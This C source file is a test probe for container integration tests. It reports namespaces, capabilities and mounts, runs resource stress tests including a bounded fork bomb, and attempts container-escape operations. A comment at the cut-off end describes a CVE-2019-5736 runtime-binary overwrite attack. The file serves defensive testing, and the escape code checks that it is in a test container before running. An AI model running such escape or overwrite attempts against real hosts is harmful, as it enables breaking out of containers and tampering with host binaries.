/*
 * probe: a tiny static program that runs inside test containers and reports
 * what it sees, so tests can assert on facts instead of on shell output.
 *
 *   probe [report]          one JSON object with everything below
 *   probe exit N            exit with status N
 *   probe sleep SECONDS     sleep (fractions allowed, "inf" = forever)
 *   probe signals           print "ready", then each signal number received;
 *                           exits 0 after printing SIGTERM (15)
 *   probe cat               copy stdin to stdout
 *   probe write PATH TEXT   write TEXT to PATH (create/truncate, mode 0644)
 *   probe read PATH         print the contents of PATH
 *   probe stat PATH         JSON: exists, type, mode, uid, gid, major, minor
 *   probe tty               JSON: isatty/ttyname of fds 0-2, window size
 *   probe fds               JSON: open file descriptors
 *   probe env               JSON: environment
 *   probe memhog MB         allocate and touch MB megabytes, 1 MB at a time
 *   probe cpuburn SECONDS   spin for SECONDS of wall time, report CPU time
 *   probe forkbomb N        fork up to N children, report how many succeeded
 *   probe mounts            JSON: mounts from /proc/self/mountinfo
 *   probe sysctl NAME       print /proc/sys/NAME (dots or slashes)
 *   probe whoami            JSON: ids, groups and the user name from /etc/passwd
 *   probe try OP ARG        JSON: result of umount, remount-rw, mount-tmpfs,
 *                           sethostname or open-write ("OK" or the errno name)
 *   probe cwd               JSON: cwd, whether it is reachable, whether it is "/"
 *   probe exe-attack S [F]  CVE-2019-5736 attacker: for S seconds, try to
 *                           overwrite other processes' executables
 *
 * Failures print "probe: WHAT: ENAME (message)" on stderr and exit 1; a usage
 * error exits 2. JSON goes to stdout on one line. Modes are octal strings
 * ("0644"), unlimited rlimits are -1, errno values are names ("EROFS").
 *
 * It must build with nothing but libc: gcc -static -Os probe.c.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

/* ------------------------------------------------------------------------ */
/* Errors                                                                    */

static const char *errno_name(int err)
{
    const char *name = strerrorname_np(err);
    static char fallback[16];
    if (name)
        return name;
    snprintf(fallback, sizeof fallback, "E%d", err);
    return fallback;
}

/* Print "probe: WHAT: ENAME (message)" and exit 1. Uses the current errno. */
static void die(const char *fmt, ...)
{
    int err = errno;
    va_list ap;
    fflush(stdout);
    fputs("probe: ", stderr);
    va_start(ap, fmt);
    vfprintf(stderr, fmt, ap);
    va_end(ap);
    fprintf(stderr, ": %s (%s)\n", errno_name(err), strerror(err));
    exit(1);
}

static void usage_error(const char *fmt, ...)
{
    va_list ap;
    fputs("probe: ", stderr);
    va_start(ap, fmt);
    vfprintf(stderr, fmt, ap);
    va_end(ap);
    fputs("\n", stderr);
    exit(2);
}

static long parse_long(const char *s, const char *what)
{
    char *end;
    errno = 0;
    long v = strtol(s, &end, 10);
    if (errno || end == s || *end)
        usage_error("%s: not a number: '%s'", what, s);
    return v;
}

/* ------------------------------------------------------------------------ */
/* A tiny JSON writer. Keys are NULL inside arrays. Output is one line.      */

#define JSON_MAX_DEPTH 16
static struct {
    bool first[JSON_MAX_DEPTH]; /* no element written yet at this depth */
    int depth;
} json;

static void json_string_raw(const char *s)
{
    const unsigned char *p = (const unsigned char *)s;
    putchar('"');
    while (*p) {
        unsigned char c = *p;
        if (c == '"' || c == '\\') {
            putchar('\\');
            putchar(c);
            p++;
        } else if (c == '\n') {
            fputs("\\n", stdout), p++;
        } else if (c == '\t') {
            fputs("\\t", stdout), p++;
        } else if (c == '\r') {
            fputs("\\r", stdout), p++;
        } else if (c < 0x20 || c == 0x7f) {
            printf("\\u%04x", c), p++;
        } else if (c < 0x80) {
            putchar(c), p++;
        } else {
            /* Pass valid UTF-8 through; escape stray bytes as U+00XX so the
             * output always parses (strict parsers reject invalid UTF-8). */
            int len = c >= 0xf0 && c < 0xf5 ? 4 : c >= 0xe0 ? 3 : c >= 0xc2 && c < 0xe0 ? 2 : 0;
            int i;
            for (i = 1; i < len; i++)
                if ((p[i] & 0xc0) != 0x80)
                    break;
            if (len && i == len) {
                fwrite(p, 1, (size_t)len, stdout);
                p += len;
            } else {
                printf("\\u%04x", c);
                p++;
            }
        }
    }
    putchar('"');
}

/* Comma and key before a value. */
static void json_prefix(const char *key)
{
    if (json.depth > 0) {
        if (!json.first[json.depth])
            putchar(',');
        json.first[json.depth] = false;
    }
    if (key) {
        json_string_raw(key);
        putchar(':');
    }
}

static void json_open(const char *key, char bracket)
{
    json_prefix(key);
    putchar(bracket);
    if (json.depth + 1 >= JSON_MAX_DEPTH) {
        fputs("probe: JSON nested too deeply\n", stderr);
        exit(1);
    }
    json.first[++json.depth] = true;
}

static void json_close(char bracket)
{
    putchar(bracket);
    json.depth--;
    if (json.depth == 0)
        putchar('\n');
}

static void json_begin_object(const char *key) { json_open(key, '{'); }
static void json_end_object(void) { json_close('}'); }
static void json_begin_array(const char *key) { json_open(key, '['); }
static void json_end_array(void) { json_close(']'); }

static void json_str(const char *key, const char *value)
{
    json_prefix(key);
    if (value)
        json_string_raw(value);
    else
        fputs("null", stdout);
}

static void json_int(const char *key, long long value)
{
    json_prefix(key);
    printf("%lld", value);
}

static void json_bool(const char *key, bool value)
{
    json_prefix(key);
    fputs(value ? "true" : "false", stdout);
}

static void json_null(const char *key)
{
    json_prefix(key);
    fputs("null", stdout);
}

static void json_mode(const char *key, mode_t mode)
{
    char buf[16];
    snprintf(buf, sizeof buf, "%04o", (unsigned)(mode & 07777));
    json_str(key, buf);
}

/* ------------------------------------------------------------------------ */
/* Small file helpers                                                        */

/* Read a whole (small, /proc-like) file into a malloc'd NUL-terminated
 * buffer. Returns NULL and sets errno on failure. */
static char *read_file(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return NULL;
    size_t cap = 4096, len = 0;
    char *buf = malloc(cap);
    if (!buf) {
        close(fd);
        return NULL;
    }
    for (;;) {
        if (len + 1 >= cap) {
            char *bigger = realloc(buf, cap *= 2);
            if (!bigger) {
                free(buf);
                close(fd);
                return NULL;
            }
            buf = bigger;
        }
        ssize_t n = read(fd, buf + len, cap - len - 1);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            int err = errno;
            free(buf);
            close(fd);
            errno = err;
            return NULL;
        }
        if (n == 0)
            break;
        len += (size_t)n;
    }
    close(fd);
    buf[len] = '\0';
    return buf;
}

static void chomp(char *s)
{
    size_t n = strlen(s);
    while (n && (s[n - 1] == '\n' || s[n - 1] == ' '))
        s[--n] = '\0';
}

/* Value of "Key:\tvalue" in /proc/self/status (copied into out). */
static const char *status_field(const char *status, const char *key, char *out, size_t outlen)
{
    size_t klen = strlen(key);
    for (const char *line = status; line && *line;) {
        const char *eol = strchr(line, '\n');
        if (!strncmp(line, key, klen) && line[klen] == ':') {
            const char *v = line + klen + 1;
            while (*v == ' ' || *v == '\t')
                v++;
            size_t n = eol ? (size_t)(eol - v) : strlen(v);
            if (n >= outlen)
                n = outlen - 1;
            memcpy(out, v, n);
            out[n] = '\0';
            return out;
        }
        line = eol ? eol + 1 : NULL;
    }
    return NULL;
}

static int write_all(int fd, const char *buf, size_t len)
{
    while (len) {
        ssize_t n = write(fd, buf, len);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            return -1;
        }
        buf += n;
        len -= (size_t)n;
    }
    return 0;
}

/* ------------------------------------------------------------------------ */
/* Report sections; each writes one key of the current object.              */

static void report_ids(void)
{
    json_int("uid", getuid());
    json_int("gid", getgid());
    json_int("euid", geteuid());
    json_int("egid", getegid());

    gid_t groups[NGROUPS_MAX];
    int n = getgroups(NGROUPS_MAX, groups);
    json_begin_array("groups");
    for (int i = 0; i < n; i++)
        json_int(NULL, groups[i]);
    json_end_array();
}

static void report_process(void)
{
    mode_t mask = umask(0);
    umask(mask);
    json_mode("umask", mask);

    char cwd[PATH_MAX];
    json_str("cwd", getcwd(cwd, sizeof cwd) ? cwd : NULL);

    struct utsname uts;
    if (uname(&uts) == 0) {
        json_str("hostname", uts.nodename);
        json_str("domainname", uts.domainname);
    }
    json_int("pid", getpid());
    json_int("ppid", getppid());
    json_int("pgid", getpgrp());
    json_int("sid", getsid(0));
    errno = 0;
    int nice = getpriority(PRIO_PROCESS, 0);
    if (errno)
        json_null("nice");
    else
        json_int("nice", nice);
}

static void report_status(void)
{
    char *status = read_file("/proc/self/status");
    char v[256];
    static const struct {
        const char *json_key, *status_key;
    } caps[] = {
        {"bounding", "CapBnd"}, {"effective", "CapEff"},   {"permitted", "CapPrm"},
        {"inheritable", "CapInh"}, {"ambient", "CapAmb"},
    };

    json_begin_object("capabilities");
    for (size_t i = 0; i < sizeof caps / sizeof caps[0]; i++)
        json_str(caps[i].json_key, status_field(status, caps[i].status_key, v, sizeof v));
    json_end_object();

    const char *nnp = status_field(status, "NoNewPrivs", v, sizeof v);
    if (nnp)
        json_int("no_new_privs", atoi(nnp));
    else
        json_null("no_new_privs");
    const char *seccomp = status_field(status, "Seccomp", v, sizeof v);
    if (seccomp)
        json_int("seccomp", atoi(seccomp));
    else
        json_null("seccomp");
    const char *filters = status_field(status, "Seccomp_filters", v, sizeof v);
    if (filters)
        json_int("seccomp_filters", atoi(filters));
    else
        json_null("seccomp_filters");
    json_str("cpus_allowed_list", status_field(status, "Cpus_allowed_list", v, sizeof v));
    json_str("mems_allowed_list", status_field(status, "Mems_allowed_list", v, sizeof v));
    free(status);
}

static void report_namespaces(void)
{
    static const char *const names[] = {"pid", "net", "ipc", "uts", "mnt", "user", "cgroup", "time"};
    json_begin_object("namespaces");
    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
        char path[64], target[128];
        snprintf(path, sizeof path, "/proc/self/ns/%s", names[i]);
        ssize_t n = readlink(path, target, sizeof target - 1);
        if (n < 0) {
            json_null(names[i]);
            continue;
        }
        target[n] = '\0';
        json_str(names[i], target);
    }
    json_end_object();
}

/* mountinfo escapes space, tab, newline and backslash as \ooo. */
static void unescape_octal(char *s)
{
    char *out = s;
    for (; *s; s++) {
        if (s[0] == '\\' && s[1] >= '0' && s[1] <= '7' && s[2] >= '0' && s[2] <= '7' && s[3] >= '0' &&
            s[3] <= '7') {
            *out++ = (char)((s[1] - '0') * 64 + (s[2] - '0') * 8 + (s[3] - '0'));
            s += 3;
        } else {
            *out++ = *s;
        }
    }
    *out = '\0';
}

static void json_comma_list(const char *key, char *list)
{
    json_begin_array(key);
    for (char *save = NULL, *opt = strtok_r(list, ",", &save); opt; opt = strtok_r(NULL, ",", &save))
        json_str(NULL, opt);
    json_end_array();
}

/* One line of /proc/self/mountinfo:
 * ID PARENT MAJ:MIN ROOT TARGET OPTIONS [OPTIONAL...] - FSTYPE SOURCE SUPER_OPTIONS */
static void json_mountinfo_line(char *line)
{
    char *fields[64];
    int n = 0;
    for (char *save = NULL, *f = strtok_r(line, " ", &save); f && n < 64; f = strtok_r(NULL, " ", &save))
        fields[n++] = f;
    int sep = 6;
    while (sep < n && strcmp(fields[sep], "-") != 0)
        sep++;
    if (n < 6 || sep + 3 >= n)
        return; /* malformed line: skip */
    for (int i = 0; i < n; i++)
        unescape_octal(fields[i]);

    json_begin_object(NULL);
    json_str("target", fields[4]);
    json_str("fstype", fields[sep + 1]);
    json_str("source", fields[sep + 2]);
    json_str("root", fields[3]);
    json_comma_list("options", fields[5]);
    json_comma_list("super_options", fields[sep + 3]);
    json_begin_array("propagation");
    for (int i = 6; i < sep; i++)
        json_str(NULL, fields[i]);
    json_end_array();
    json_end_object();
}

static void report_mounts(void)
{
    char *info = read_file("/proc/self/mountinfo");
    json_begin_array("mounts");
    for (char *save = NULL, *line = info ? strtok_r(info, "\n", &save) : NULL; line;
         line = strtok_r(NULL, "\n", &save))
        json_mountinfo_line(line);
    json_end_array();
    free(info);
}

static void report_rlimits(void)
{
    static const struct {
        const char *name;
        int resource;
    } limits[] = {
        {"AS", RLIMIT_AS},         {"CORE", RLIMIT_CORE},         {"CPU", RLIMIT_CPU},
        {"DATA", RLIMIT_DATA},     {"FSIZE", RLIMIT_FSIZE},       {"LOCKS", RLIMIT_LOCKS},
        {"MEMLOCK", RLIMIT_MEMLOCK}, {"MSGQUEUE", RLIMIT_MSGQUEUE}, {"NICE", RLIMIT_NICE},
        {"NOFILE", RLIMIT_NOFILE}, {"NPROC", RLIMIT_NPROC},       {"RSS", RLIMIT_RSS},
        {"RTPRIO", RLIMIT_RTPRIO}, {"RTTIME", RLIMIT_RTTIME},     {"SIGPENDING", RLIMIT_SIGPENDING},
        {"STACK", RLIMIT_STACK},
    };
    json_begin_object("rlimits");
    for (size_t i = 0; i < sizeof limits / sizeof limits[0]; i++) {
        struct rlimit rl;
        if (getrlimit(limits[i].resource, &rl) != 0) {
            json_null(limits[i].name);
            continue;
        }
        json_begin_array(limits[i].name);
        json_int(NULL, rl.rlim_cur == RLIM_INFINITY ? -1 : (long long)rl.rlim_cur);
        json_int(NULL, rl.rlim_max == RLIM_INFINITY ? -1 : (long long)rl.rlim_max);
        json_end_array();
    }
    json_end_object();
}

/* Each line of a file as an array of strings (empty array if unreadable). */
static void json_file_lines(const char *key, const char *path)
{
    char *text = read_file(path);
    json_begin_array(key);
    for (char *save = NULL, *line = text ? strtok_r(text, "\n", &save) : NULL; line;
         line = strtok_r(NULL, "\n", &save))
        json_str(NULL, line);
    json_end_array();
    free(text);
}

static void report_oom_score_adj(void)
{
    char *text = read_file("/proc/self/oom_score_adj");
    if (text)
        json_int("oom_score_adj", atoi(text));
    else
        json_null("oom_score_adj");
    free(text);
}

static void json_string_array(const char *key, char **items, int count)
{
    json_begin_array(key);
    for (int i = 0; count < 0 ? items[i] != NULL : i < count; i++)
        json_str(NULL, items[i]);
    json_end_array();
}

static int compare_ints(const void *a, const void *b)
{
    int x = *(const int *)a, y = *(const int *)b;
    return (x > y) - (x < y);
}

/* Open fds, sorted, without the one used to list them. */
static void report_open_fds(void)
{
    DIR *dir = opendir("/proc/self/fd");
    int fds[4096], n = 0;
    json_begin_array("open_fds");
    if (!dir) {
        json_end_array();
        return;
    }
    for (struct dirent *e; (e = readdir(dir)) && n < 4096;) {
        if (e->d_name[0] == '.')
            continue;
        int fd = atoi(e->d_name);
        if (fd != dirfd(dir))
            fds[n++] = fd;
    }
    qsort(fds, (size_t)n, sizeof fds[0], compare_ints);
    for (int i = 0; i < n; i++) {
        char path[64], target[PATH_MAX];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
        ssize_t len = readlinkat(dirfd(dir), path + strlen("/proc/self/fd/"), target, sizeof target - 1);
        target[len < 0 ? 0 : len] = '\0';
        json_begin_object(NULL);
        json_int("fd", fds[i]);
        json_str("target", len < 0 ? NULL : target);
        json_end_object();
    }
    closedir(dir);
    json_end_array();
}

static const char *file_type(mode_t mode)
{
    switch (mode & S_IFMT) {
    case S_IFREG: return "file";
    case S_IFDIR: return "dir";
    case S_IFLNK: return "symlink";
    case S_IFCHR: return "char";
    case S_IFBLK: return "block";
    case S_IFIFO: return "fifo";
    case S_IFSOCK: return "socket";
    default: return "unknown";
    }
}

/* The fields of `probe stat`, written into the current object. */
static void json_stat_fields(const char *path)
{
    struct stat st;
    json_str("path", path);
    if (lstat(path, &st) != 0) {
        json_bool("exists", false);
        json_str("errno", errno_name(errno));
        return;
    }
    json_bool("exists", true);
    json_str("type", file_type(st.st_mode));
    json_mode("mode", st.st_mode);
    json_int("uid", st.st_uid);
    json_int("gid", st.st_gid);
    json_int("major", S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode) ? (long long)major(st.st_rdev) : 0);
    json_int("minor", S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode) ? (long long)minor(st.st_rdev) : 0);
    json_int("size", st.st_size);
    if (S_ISLNK(st.st_mode)) {
        char target[PATH_MAX];
        ssize_t n = readlink(path, target, sizeof target - 1);
        target[n < 0 ? 0 : n] = '\0';
        json_str("target", n < 0 ? NULL : target);
    }
}

/* Entries directly under /dev, sorted by name. */
static void report_devices(void)
{
    struct dirent **entries;
    int n = scandir("/dev", &entries, NULL, alphasort);
    json_begin_array("devices");
    for (int i = 0; i < n; i++) {
        const char *name = entries[i]->d_name;
        if (strcmp(name, ".") && strcmp(name, "..")) {
            char path[PATH_MAX];
            snprintf(path, sizeof path, "/dev/%s", name);
            json_begin_object(NULL);
            json_stat_fields(path);
            json_end_object();
        }
        free(entries[i]);
    }
    if (n >= 0)
        free(entries);
    json_end_array();
}

/* Try to create a file in /: the errno name, or "OK" if / is writable. */
static void report_root_readonly(void)
{
    const char *path = "/.probe-write-test";
    int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
    if (fd < 0) {
        json_str("root_readonly", errno_name(errno));
        return;
    }
    close(fd);
    unlink(path);
    json_str("root_readonly", "OK");
}

/* ------------------------------------------------------------------------ */
/* Subcommands                                                               */

static int cmd_report(int argc, char **argv)
{
    json_begin_object(NULL);
    report_ids();
    report_process();
    report_status();
    report_namespaces();
    report_mounts();
    report_rlimits();
    json_file_lines("cgroup", "/proc/self/cgroup");
    report_oom_score_adj();
    json_string_array("env", environ, -1);
    json_string_array("args", argv, argc);
    report_open_fds();
    report_devices();
    report_root_readonly();
    json_end_object();
    return 0;
}

static int cmd_exit(int argc, char **argv)
{
    if (argc < 3)
        usage_error("usage: probe exit N");
    return (int)parse_long(argv[2], "exit status");
}

static int cmd_sleep(int argc, char **argv)
{
    if (argc < 3)
        usage_error("usage: probe sleep SECONDS");
    if (!strcmp(argv[2], "inf") || !strcmp(argv[2], "infinity"))
        for (;;)
            pause();
    char *end;
    double seconds = strtod(argv[2], &end);
    if (end == argv[2] || *end || seconds < 0)
        usage_error("sleep: not a number of seconds: '%s'", argv[2]);
    struct timespec ts = {.tv_sec = (time_t)seconds,
                          .tv_nsec = (long)((seconds - (double)(time_t)seconds) * 1e9)};
    while (nanosleep(&ts, &ts) != 0 && errno == EINTR)
        ;
    return 0;
}

static void ignore_signal(int sig) { (void)sig; }

static int cmd_signals(int argc, char **argv)
{
    (void)argc, (void)argv;
    /* A handler is installed for every catchable signal: as PID 1 of a PID
     * namespace, signals from outside with the default action are dropped.
     * The signals are also blocked and collected with sigwaitinfo so none is
     * lost or handled asynchronously. */
    sigset_t all;
    sigemptyset(&all);
    struct sigaction sa = {.sa_handler = ignore_signal};
    sigfillset(&sa.sa_mask);
    for (int sig = 1; sig < NSIG; sig++) {
        if (sig == SIGKILL || sig == SIGSTOP)
            continue;
        if (sigaction(sig, &sa, NULL) == 0)
            sigaddset(&all, sig);
    }
    if (sigprocmask(SIG_BLOCK, &all, NULL) != 0)
        die("sigprocmask");
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("ready\n");
    fflush(stdout);
    for (;;) {
        int sig = sigwaitinfo(&all, NULL);
        if (sig < 0) {
            if (errno == EINTR)
                continue;
            die("sigwaitinfo");
        }
        printf("%d\n", sig);
        fflush(stdout);
        if (sig == SIGTERM)
            return 0;
    }
}

static int cmd_cat(int argc, char **argv)
{
    (void)argc, (void)argv;
    char buf[65536];
    for (;;) {
        ssize_t n = read(0, buf, sizeof buf);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            die("read stdin");
        }
        if (n == 0)
            return 0;
        if (write_all(1, buf, (size_t)n) != 0)
            die("write stdout");
    }
}

static int cmd_write(int argc, char **argv)
{
    if (argc < 4)
        usage_error("usage: probe write PATH TEXT");
    int fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0)
        die("open %s", argv[2]);
    if (write_all(fd, argv[3], strlen(argv[3])) != 0)
        die("write %s", argv[2]);
    if (close(fd) != 0)
        die("close %s", argv[2]);
    return 0;
}

static int cmd_read(int argc, char **argv)
{
    if (argc < 3)
        usage_error("usage: probe read PATH");
    int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        die("open %s", argv[2]);
    char buf[65536];
    for (;;) {
        ssize_t n = read(fd, buf, sizeof buf);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            die("read %s", argv[2]);
        }
        if (n == 0)
            break;
        if (write_all(1, buf, (size_t)n) != 0)
            die("write stdout");
    }
    close(fd);
    return 0;
}

static int cmd_stat(int argc, char **argv)
{
    if (argc < 3)
        usage_error("usage: probe stat PATH");
    json_begin_object(NULL);
    json_stat_fields(argv[2]);
    json_end_object();
    return 0;
}

static int cmd_tty(int argc, char **argv)
{
    (void)argc, (void)argv;
    static const char *const names[] = {"stdin", "stdout", "stderr"};
    int tty_fd = -1;
    json_begin_object(NULL);
    for (int fd = 0; fd < 3; fd++) {
        bool is_tty = isatty(fd);
        json_begin_object(names[fd]);
        json_bool("isatty", is_tty);
        json_str("ttyname", is_tty ? ttyname(fd) : NULL);
        json_end_object();
        if (is_tty && tty_fd < 0)
            tty_fd = fd;
    }
    struct winsize ws;
    if (tty_fd >= 0 && ioctl(tty_fd, TIOCGWINSZ, &ws) == 0) {
        json_begin_object("winsize");
        json_int("rows", ws.ws_row);
        json_int("cols", ws.ws_col);
        json_end_object();
    } else {
        json_null("winsize");
    }
    /* Opening /dev/tty works only with a controlling terminal. */
    int ctty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
    json_bool("controlling_tty", ctty >= 0);
    if (ctty >= 0)
        close(ctty);
    pid_t fg = tty_fd >= 0 ? tcgetpgrp(tty_fd) : -1;
    json_bool("foreground", fg >= 0 && fg == getpgrp());
    json_end_object();
    return 0;
}

static int cmd_fds(int argc, char **argv)
{
    (void)argc, (void)argv;
    json_begin_object(NULL);
    report_open_fds();
    json_end_object();
    return 0;
}

static int cmd_env(int argc, char **argv)
{
    (void)argc, (void)argv;
    json_begin_object(NULL);
    json_string_array("env", environ, -1);
    json_end_object();
    return 0;
}

static int cmd_mounts(int argc, char **argv)
{
    (void)argc, (void)argv;
    json_begin_object(NULL);
    report_mounts();
    json_end_object();
    return 0;
}

static int cmd_memhog(int argc, char **argv)
{
    if (argc < 3)
        usage_error("usage: probe memhog MB");
    long mb = parse_long(argv[2], "megabytes");
    const size_t chunk = 1 << 20;
    setvbuf(stdout, NULL, _IOLBF, 0);
    for (long i = 1; i <= mb; i++) {
        /* mmap and touch every page so the memory is really charged. */
        char *p = mmap(NULL, chunk, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p == MAP_FAILED)
            die("memhog: mmap after %ld MB", i - 1);
        memset(p, 0xa5, chunk);
        printf("allocated %ld MB\n", i);
    }
    printf("done %ld MB\n", mb);
    return 0;
}

static double clock_seconds(clockid_t clock)
{
    struct timespec ts;
    clock_gettime(clock, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int cmd_cpuburn(int argc, char **argv)
{
    if (argc < 3)
        usage_error("usage: probe cpuburn SECONDS");
    char *end;
    double seconds = strtod(argv[2], &end);
    if (end == argv[2] || *end || seconds < 0)
        usage_error("cpuburn: not a number of seconds: '%s'", argv[2]);
    double start = clock_seconds(CLOCK_MONOTONIC), cpu_start = clock_seconds(CLOCK_PROCESS_CPUTIME_ID);
    volatile unsigned long spins = 0;
    while (clock_seconds(CLOCK_MONOTONIC) - start < seconds)
        for (int i = 0; i < 10000; i++)
            spins++;
    char buf[32];
    json_begin_object(NULL);
    snprintf(buf, sizeof buf, "%.3f", clock_seconds(CLOCK_MONOTONIC) - start);
    json_prefix("wall_seconds"), fputs(buf, stdout);
    snprintf(buf, sizeof buf, "%.3f", clock_seconds(CLOCK_PROCESS_CPUTIME_ID) - cpu_start);
    json_prefix("cpu_seconds"), fputs(buf, stdout);
    json_end_object();
    return 0;
}

static int cmd_forkbomb(int argc, char **argv)
{
    if (argc < 3)
        usage_error("usage: probe forkbomb N");
    long limit = parse_long(argv[2], "count");
    pid_t *children = calloc((size_t)(limit > 0 ? limit : 1), sizeof *children);
    if (!children)
        die("calloc");
    long forked = 0;
    int err = 0;
    fflush(stdout);
    while (forked < limit) {
        pid_t pid = fork();
        if (pid < 0) {
            err = errno;
            break;
        }
        if (pid == 0) {
            pause(); /* killed by the parent below */
            _exit(0);
        }
        children[forked++] = pid;
    }
    for (long i = 0; i < forked; i++)
        kill(children[i], SIGKILL);
    for (long i = 0; i < forked; i++)
        while (waitpid(children[i], NULL, 0) < 0 && errno == EINTR)
            ;
    free(children);
    json_begin_object(NULL);
    json_int("requested", limit);
    json_int("forked", forked);
    json_str("errno", err ? errno_name(err) : NULL);
    json_end_object();
    return 0;
}

static int cmd_sysctl(int argc, char **argv)
{
    if (argc < 3)
        usage_error("usage: probe sysctl NAME");
    char path[PATH_MAX];
    int n = snprintf(path, sizeof path, "/proc/sys/%s", argv[2]);
    if (n < 0 || (size_t)n >= sizeof path)
        usage_error("sysctl: name too long");
    /* net.ipv4.ip_forward -> net/ipv4/ip_forward (as sysctl(8) does) */
    if (!strchr(argv[2], '/'))
        for (char *p = path + strlen("/proc/sys/"); *p; p++)
            if (*p == '.')
                *p = '/';
    char *value = read_file(path);
    if (!value)
        die("read %s", path);
    chomp(value);
    printf("%s\n", value);
    free(value);
    return 0;
}

/* The name for uid in /etc/passwd, parsed by hand: static glibc cannot load
 * NSS modules. */
static char *passwd_name(uid_t uid)
{
    char *text = read_file("/etc/passwd");
    char *found = NULL;
    for (char *save = NULL, *line = text ? strtok_r(text, "\n", &save) : NULL; line && !found;
         line = strtok_r(NULL, "\n", &save)) {
        char *name = line, *colon1 = strchr(line, ':');
        char *colon2 = colon1 ? strchr(colon1 + 1, ':') : NULL;
        if (colon2 && strtoul(colon2 + 1, NULL, 10) == uid && isdigit((unsigned char)colon2[1])) {
            *colon1 = '\0';
            found = strdup(name);
        }
    }
    free(text);
    return found;
}

static int cmd_whoami(int argc, char **argv)
{
    (void)argc, (void)argv;
    char *name = passwd_name(geteuid());
    json_begin_object(NULL);
    json_str("user", name);
    report_ids();
    json_end_object();
    free(name);
    return 0;
}

/* ------------------------------------------------------------------------ */
/* Escape attempts (tests/integration/escape_test.cpp)                       */

/* The escape probes below change or attack what they can reach: they run
 * only in a test container, whose hostname the tests set to "corral" (the
 * fixture config's), never by accident on a host. */
static void require_test_container(const char *what)
{
    char host[256] = "";
    if (gethostname(host, sizeof host) != 0 || strcmp(host, "corral") != 0)
        usage_error("%s: refusing to run outside a test container (hostname '%s', not 'corral')", what, host);
}

/* probe try OP ARG: attempt one privileged or forbidden operation and print
 * {"op", "arg", "result"}: "OK" if it worked, else the errno name. Exits 0
 * either way: the test judges the result. */
static int cmd_try(int argc, char **argv)
{
    if (argc < 4)
        usage_error("usage: probe try umount|umount-detach|remount-rw|mount-tmpfs|sethostname|open-write ARG");
    const char *op = argv[2], *arg = argv[3];
    require_test_container("try");
    int r;
    if (!strcmp(op, "umount"))
        r = umount2(arg, 0);
    else if (!strcmp(op, "umount-detach"))
        r = umount2(arg, MNT_DETACH);
    else if (!strcmp(op, "remount-rw")) /* clear the mount's read-only flag */
        r = mount(NULL, arg, NULL, MS_REMOUNT | MS_BIND, NULL);
    else if (!strcmp(op, "mount-tmpfs"))
        r = mount("tmpfs", arg, "tmpfs", 0, NULL);
    else if (!strcmp(op, "sethostname"))
        r = sethostname(arg, strlen(arg));
    else if (!strcmp(op, "open-write")) {
        r = open(arg, O_WRONLY | O_CLOEXEC);
        if (r >= 0)
            close(r);
    } else
        usage_error("try: unknown operation '%s'", op);
    int err = errno;
    json_begin_object(NULL);
    json_str("op", op);
    json_str("arg", arg);
    json_str("result", r < 0 ? errno_name(err) : "OK");
    json_end_object();
    return 0;
}

/* probe cwd: {"cwd", "reachable", "is_root"}. getcwd() prefixes a directory
 * outside our root with "(unreachable)"; is_root: "." is our "/". */
static int cmd_cwd(int argc, char **argv)
{
    (void)argc, (void)argv;
    char cwd[PATH_MAX];
    struct stat dot, root;
    bool have = getcwd(cwd, sizeof cwd) != NULL;
    int err = errno;
    bool is_root = stat(".", &dot) == 0 && stat("/", &root) == 0 && dot.st_dev == root.st_dev &&
                   dot.st_ino == root.st_ino;
    json_begin_object(NULL);
    json_str("cwd", have ? cwd : NULL);
    if (!have)
        json_str("errno", errno_name(err));
    json_bool("reachable", have && strncmp(cwd, "(unreachable)", 13) != 0);
    json_bool("is_root", is_root);
    json_end_object();
    return 0;
}

static volatile sig_atomic_t exe_attack_stop;
static void stop_exe_attack(int sig) { (void)sig, exe_attack_stop = 1; }

/* One executable of another process that lies outside our root. */
struct exe_target {
    int pid;
    int fd; /* O_RDONLY, through /proc/PID/exe */
    char exe[PATH_MAX];
    const char *write; /* NULL: not tried yet; "ETXTBSY" is retried */
    bool final;
};

/* A runtime binary a container process can reach through /proc/PID/exe is
 * CVE-2019-5736: open it read-only, wait until nothing executes it (ETXTBSY)
 * and reopen it for writing through /proc/self/fd. This scans /proc for
 * SECONDS (or until SIGTERM, or a write succeeded), opening the exe of every
 * other process; an exe that is not a file of our own root (different inode
 * at its path, or no such path) is foreign, and is attacked: a successful
 * write puts "#!corral-pwned" at offset 0.
 * FIFO (optional): opened for reading once a foreign exe is held, which
 * releases a victim blocked opening it for writing (`--log FIFO`).
 * Prints "ready", then one JSON line: {"targets": [{pid, exe, write}],
 * "denied": number of /proc/PID/exe opens refused (EACCES/EPERM)}. */
static int cmd_exe_attack(int argc, char **argv)
{
    if (argc < 3)
        usage_error("usage: probe exe-attack SECONDS [FIFO]");
    char *end;
    double seconds = strtod(argv[2], &end);
    if (end == argv[2] || *end || seconds <= 0)
        usage_error("exe-attack: not a number of seconds: '%s'", argv[2]);
    const char *fifo = argc > 3 ? argv[3] : NULL;
